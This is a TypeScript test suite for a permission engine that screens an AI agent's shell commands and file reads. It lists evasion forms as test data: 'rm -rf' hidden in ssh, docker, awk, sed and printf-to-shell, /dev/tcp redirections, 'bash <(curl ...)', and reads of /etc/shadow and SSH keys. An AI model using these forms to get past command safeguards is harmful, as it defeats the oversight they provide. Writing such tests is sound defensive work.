import { describeTwins } from "./twins.ts";

// Other spellings of what a rule allows or forbids, and lines that only look like it.

const prefixes = (...words: readonly string[]) => ({
  id: "ok",
  effect: "allow",
  command: words.map((prefix) => ({ prefix })),
});
const exact = (...words: readonly string[]) => ({
  id: "ok",
  effect: "allow",
  command: words.map((one) => ({ exact: one })),
});
const noForce = { id: "no-force", effect: "deny", ref: { force: true } };
const noRecursion = { id: "no-rm-r", effect: "deny", command: { program: "rm", flags: { any: "-r" } } };
const outside = { id: "outside", effect: "deny", path: { outside: true } };
const deny = (id: string, command: object) => ({ id, effect: "deny", command });
const files = { "/w/a.txt": "", "/w/src/x.ts": "" };

describeTwins([
  {
    promise: "exact words say nothing about where the shell sends their output, or what it feeds them",
    user: { rules: [exact("npm test", "cargo check")] },
    files,
    ask: [
      "npm test > src/x.ts",
      "npm test >> package.json",
      "npm test &> log",
      "npm test 2> log",
      "npm test > $LOG",
      "npm test > /tmp/log",
      "npm test < /etc/passwd",
      "npm test > /dev/tcp/x.test/80",
      "{ npm test; } > log",
      "(npm test) > log",
      "cargo check > ~/.zshrc",
    ],
    allow: [
      "npm test",
      "npm test 2>&1",
      "npm test > /dev/null",
      "npm test >/dev/null 2>&1",
      "npm test < a.txt",
    ],
  },
  {
    promise: "a redirection of exact words passes where a path rule allows it",
    user: {
      rules: [exact("npm test"), { id: "log", effect: "allow", path: { glob: "log/**", action: "write" } }],
    },
    ask: ["npm test > log2/a"],
    allow: ["npm test > log/a", "npm test >> ./log/b 2>&1"],
  },
  {
    promise: "an allowed command opens no connection through its redirections",
    user: { rules: [prefixes("echo", "cat")] },
    files,
    ask: [
      "echo x > /dev/tcp/x.test/80",
      "cat a.txt > /dev/udp/x.test/53",
      "cat < /dev/tcp/x.test/80",
      "echo x >> /dev/tcp/10.0.0.1/443",
    ],
    allow: ["echo /dev/tcp/x.test/80", "cat a.txt > /dev/null"],
  },
  {
    promise: "a line that bash refuses is not allowed",
    user: { rules: [prefixes("ls", "echo")] },
    ask: [
      "ls ( a",
      "ls (",
      "echo ( 'a b' c",
      "ls \\\n ( a",
      "(ls (; echo)",
      "echo a > 2>&1",
      "ls >2>&1",
      "e(cho",
    ],
    allow: ["ls '(' a", "echo \\( a", "(ls)", "ls\n(echo a)", "echo a >&2", "(ls; echo a)"],
  },
  {
    promise: "git log -c shows merges, and git -c sets something",
    user: { rules: [prefixes("git log", "git diff", "git show")] },
    allow: ["git log -c", "git diff -c HEAD", "git show -c --stat", "git log --cc -c -3"],
    ask: ["git -c core.pager=x log -c", "git -c a.b=c log"],
  },
  {
    promise: "a refspec or a mirror that a setting gives is pushed like one that is written",
    user: { rules: [noForce, prefixes("git push")] },
    deny: [
      "git -c remote.origin.push=+main push",
      "git -c remote.origin.push='+refs/*:refs/*' push origin",
      "git -c remote.origin.mirror=true push",
      "git -c a.b=c -c remote.o.mirror=1 push o",
    ],
    ask: ["git -c remote.origin.push=main push", "git -c remote.origin.mirror=false push"],
    allow: ["git push origin x"],
  },
  {
    promise:
      "what is forbidden is forbidden in a container and on another machine as well, and the rest asks",
    user: { fallback: { bash: "allow" }, rules: [noRecursion, noForce, outside] },
    deny: [
      "docker exec c rm -rf x",
      "docker exec -it -e A=b c sh -c 'rm -rf x'",
      "docker container exec c rm -rf x",
      "docker run --rm -v .:/w -w /w img git push --force",
      "docker compose exec web rm -rf x",
      "docker compose run --rm web git push -f",
      "kubectl exec -it p -c ctr -- rm -rf x",
      "kubectl -n ns exec deploy/x -- sh -c 'rm -rf x'",
      "ssh h rm -rf x",
      "ssh -p 22 u@h 'cd /srv && sudo rm -rf x'",
      "ssh h <<E\nrm -rf x\nE",
      "ssh h bash -s <<'E'\nrm -rf x\nE",
      "echo 'rm -rf x' | ssh h",
      "heroku run rm -rf x",
      "ssh -o ProxyCommand='rm -rf x' h",
      "ssh -o 'LocalCommand rm -rf x' h",
    ],
    ask: [
      "docker exec c ls",
      "docker exec c cat /etc/passwd",
      "ssh h cat /etc/passwd",
      "ssh h 'ls > /tmp/x'",
      "kubectl exec p -- ls /",
    ],
    allow: ["ssh h", "docker ps", "docker container ls"],
  },
  {
    promise: "a shell on another machine is not fed unasked",
    user: { rules: [prefixes("ssh h", "echo", "cat")] },
    ask: ["ssh h < x.sh", "ssh h <<E\nls\nE", "echo ls | ssh h", "cat x.sh | ssh h", "ssh h ls"],
    allow: ["ssh h"],
  },
  {
    promise: "a text that the line itself prints into a shell is read",
    user: { fallback: { bash: "allow" }, rules: [noRecursion] },
    deny: [
      "printf 'rm -rf x' | bash -s",
      "printf 'rm -rf %s' x | sh",
      "printf '%s\\n' ls 'rm -rf x' | sh",
      "bash <(echo 'rm -rf x')",
      "source <(printf 'rm -rf x')",
      "bash <(cat <<'E'\nrm -rf x\nE\n)",
      "x='rm -rf y'; $x",
      "x='rm -rf'; ${x} y",
      "awk 'BEGIN{system(\"rm -rf x\")}'",
      "awk '{print | \"rm -rf x\"}' f",
      "awk '{ \"rm -rf x\" | getline }' f",
      "sed '1e rm -rf x' f",
      "sed 's/.*/rm -rf x/e' f",
      "git filter-branch --tree-filter 'rm -rf x' HEAD",
    ],
    ask: [
      "printf '\\x72m -rf x' | sh",
      "printf '%b' x | sh",
      "bash <(curl x.test)",
      "bash <(echo ls)",
      "awk '{ system($1) }' f",
      "sed '1e ls' f",
    ],
    allow: ["printf 'ls' | sh", "awk '{print \"rm -rf x\"}' f"],
  },
  {
    promise: "a known variable is split as the shell splits it",
    user: {
      rules: [
        prefixes("git status", "ls", "echo"),
        { id: "no-rm", effect: "deny", command: { program: "rm" } },
      ],
    },
    allow: ["C='git status'; $C", "O='-l -a'; ls $O", "M='a  b'; echo \"$M\""],
    deny: ["x='rm a'; $x"],
    ask: ["C='git push'; $C", "IFS=:; x='a b'; ls $x", "x='a b'; x='git push'; $x"],
  },
  {
    promise: "arithmetic and coprocesses set variables too",
    user: { rules: [prefixes("ls", "echo", "let")] },
    ask: [
      "(( PATH = 1 )); ls",
      "echo $((PATH+=1)); ls",
      "for ((PATH=1;;)); do ls; done",
      "let PATH=1; ls",
      "coproc PATH { ls; }; ls",
    ],
    allow: ["(( i = 1 )); ls", "(( 1 == 1 )) && ls"],
  },
  {
    promise: "a path that is glued to an option nobody knows is judged",
    user: { rules: [outside, prefixes("foo", "cargo")] },
    deny: [
      "foo -f/etc/shadow",
      "foo -f=/etc/shadow",
      "foo -I../x",
      "foo -xf/etc/x",
      "foo -DX=/etc/x",
      "cargo foo -p/etc/x",
    ],
    allow: [
      "foo -f5",
      "foo -xvf a",
      "foo -I./src",
      "foo --out a/b",
      "foo --out=a/b",
      "foo x=a/b",
      "foo -- a/b",
    ],
  },
  {
    promise: "a file of settings outside is denied where reading there is",
    user: { rules: [outside, prefixes("curl", "ssh h", "git log", "git")] },
    deny: ["curl -K/etc/x", "curl -K ~/x", "ssh -F/tmp/x h", "git --git-dir=/tmp/x log"],
    ask: ["curl -K a.cfg", "git --git-dir=x log"],
  },
  {
    promise: "a subcommand is known by each of its names",
    user: {
      fallback: { bash: "allow" },
      rules: [
        deny("boom", { prefix: "npm run boom" }),
        deny("lint", { prefix: "npm run-script lint" }),
        deny("test", { program: "npm", subcommand: "test" }),
        deny("gone", { prefix: "npm rm" }),
        deny("cargo", { prefix: "cargo test" }),
        deny("docker", { program: "docker", subcommand: "rm" }),
        deny("image", { prefix: "docker image rm" }),
      ],
    },
    deny: [
      "npm run boom",
      "npm run-script boom",
      "npm rum boom",
      "npm -s run-script boom",
      "npm -w a urn boom",
      "npm run lint",
      "npm t",
      "npm tst",
      "npm tes",
      "npm uninstall x",
      "npm un x",
      "cargo t",
      "docker container rm x",
      "docker container remove x",
      "docker rmi x",
    ],
    ask: [
      "npm pub",
      "npm publis",
      "docker image push a/b",
      "gh release new v1",
      "yarn workspace a npm publish",
    ],
    allow: ["npm run boomer", "npm start", "npm te", "docker container ls", "docker image ls", "cargo b"],
  },
  {
    promise: "an allow holds for the name that it writes, and for a subcommand by any name",
    user: {
      rules: [
        prefixes("npm test"),
        { id: "ci", effect: "allow", command: { program: "npm", subcommand: "ci" } },
      ],
    },
    allow: ["npm test", "npm ci", "npm clean-install"],
    ask: ["npm t", "npm run-script x"],
  },
  {
    promise: "what is started by more wrappers is judged",
    user: { rules: [noRecursion, prefixes("npm test")] },
    deny: [
      "caffeinate -dims rm -rf x",
      "caffeinate -t 5 rm -rf x",
      "direnv exec . rm -rf x",
      "pipenv run rm -rf x",
      "op run --env-file=.e -- rm -rf x",
      "doppler run -p a -c b -- rm -rf x",
      "aws-vault exec p -- rm -rf x",
      "chamber exec svc -- rm -rf x",
    ],
    allow: ["caffeinate -i npm test"],
  },
  {
    promise: "files with an ending that fd finds are known",
    user: { rules: [prefixes("fd", "grep", "wc", "cat"), { id: "pem", effect: "deny", path: "*.pem" }] },
    files: { ...files, "/w/k.pem": "" },
    allow: ["fd -e ts -x grep foo", "fd -e ts . src -X wc -l"],
    deny: ["fd -e pem -x cat"],
    ask: ["fd x -x cat", "fd -e ts x /etc -x cat"],
  },
  {
    promise: "7z writes its archive and its folder",
    user: { rules: [outside, prefixes("7z")] },
    deny: ["7z x a -o/tmp/x", "7z a /tmp/x.7z b", "7z a b.7z ~/.ssh", "7z l /etc/x.7z"],
    allow: ["7z l a.7z", "7z a b.7z src"],
  },
  {
    promise: "more programs only look",
    user: { rules: [{ id: "ro", effect: "allow", command: { program: "*", readOnly: true } }] },
    files: { ...files, "/w/a.o": "" },
    allow: [
      "hexdump -C a.txt",
      "shuf -n 5 a.txt",
      "nm a.o",
      "objdump -d a.o",
      "git fsck",
      "docker container ls -a",
      "caffeinate ls",
    ],
    ask: [
      "shuf -o x a.txt",
      "nm --plugin=./x.so a.o",
      "git fsck --lost-found",
      "docker container rm x",
      "docker image prune",
    ],
  },
]);

describeTwins([
  {
    promise: "an unknown program may start what would be allowed without it",
    user: { fallback: { bash: "allow" }, rules: [deny("stash", { prefix: "git stash" })] },
    allow: [
      "foo git status",
      "mytool node x.js",
      "foo make",
      "./gradlew docker",
      "brew install git",
      "foo rm build",
    ],
    ask: [
      "foo git stash",
      "foo --x git stash push",
      "foo -- git 'stash'",
      "foo git stash git",
      "foo git push -f",
      "foo sudo ls",
      "foo env git stash",
      "foo git $X",
      'foo sh -c "$X"',
      "foo kill 1",
      "foo npm publish",
    ],
  },
  {
    promise: "an allowed program that is unknown starts nothing that is not allowed",
    user: { rules: [prefixes("foo", "git status")] },
    allow: ["foo git status", "foo a b"],
    ask: ["foo git push", "foo rm x", "foo node x"],
  },
  {
    promise: "cd into a folder that is there succeeds, unless the line may have removed it",
    user: { rules: [prefixes("cd", "ls", "cat", "npm test", "rm"), outside] },
    files: { ...files, "/w/packages/a/x": "", "/w/packages/b/x": "" },
    allow: [
      "cd src; ls; cd ..; cat a.txt",
      "cd src\nls\ncd ..\ncat a.txt",
      "cd src; cat ../a.txt",
      "cd packages/a; npm test; cd ../b; npm test; cd ../..; ls",
    ],
    deny: [
      "cd nosuch; cat ../x",
      "cd a.txt; cat ../x",
      "rm -r src; cd src; cat ../a.txt",
      "cd src; cat ../../x",
      "cd src; cd ..; cd ..; ls",
    ],
  },
  {
    promise: "what code may do to the files that it is given is part of what is allowed",
    user: {
      rules: [
        prefixes("python3 -m pytest", "python3 x.py"),
        { id: "gen", effect: "ask", path: { glob: "gen/**", action: "write" } },
      ],
    },
    allow: [
      "python3 -m pytest tests/test_a.py",
      "python3 -m pytest -q tests/a/b.py",
      "python3 x.py data/in.csv",
    ],
    ask: ["python3 -m pytest gen/a.py", "python3 -m pytest ../x.py", "python3 x.py /etc/x"],
  },
  {
    promise: "ssh reads options behind the host, and env - is env -i",
    user: { fallback: { bash: "allow" }, rules: [noRecursion] },
    deny: [
      "ssh h -o ProxyCommand='rm -rf x'",
      "ssh h -p 22 -oProxyCommand='rm -rf x' ls",
      "ssh h -p 22 rm -rf x",
      "env - rm -rf x",
      "env - A=1 rm -rf x",
    ],
    ask: ["ssh h -p 22", "ssh h -- ls"],
  },
]);

describeTwins(
  ["run_shell_command", "bash_tool", "terminal"].map((tool) => ({
    promise: `${tool} is a shell by its name`,
    tool,
    user: { fallback: { "*": "allow" }, rules: [noRecursion] },
    deny: [{ command: "rm -rf x" }],
    allow: [{ command: "ls" }],
  })),
);

describeTwins([
  {
    promise: "a file that Pi reads in place of a missing one is judged",
    tool: "read",
    user: {
      rules: [
        { id: "in", effect: "allow", path: { outside: false } },
        { id: "secrets", effect: "deny", path: "secrets/**" },
      ],
    },
    files: {
      "/home/u/.ssh/id_rsa": "",
      "/w/secrets/k": "",
      "/w/it\u2019s": { link: "/home/u/.ssh/id_rsa" },
      "/w/Shot 1\u202fPM.png": { link: "secrets/k" },
      "/w/cafe\u0301": { link: "secrets" },
      "/w/l\u2019e\u0301": { link: "secrets/k" },
      "/w/ok\u2019s.txt": "",
      "/w/there's": "",
      "/w/there\u2019s": { link: "secrets/k" },
    },
    ask: ["it's", "/w/it's"],
    deny: ["Shot 1 PM.png", "caf\u00e9/k", "l'\u00e9"],
    allow: ["ok's.txt", "missing's.txt", "there's"],
  },
]);
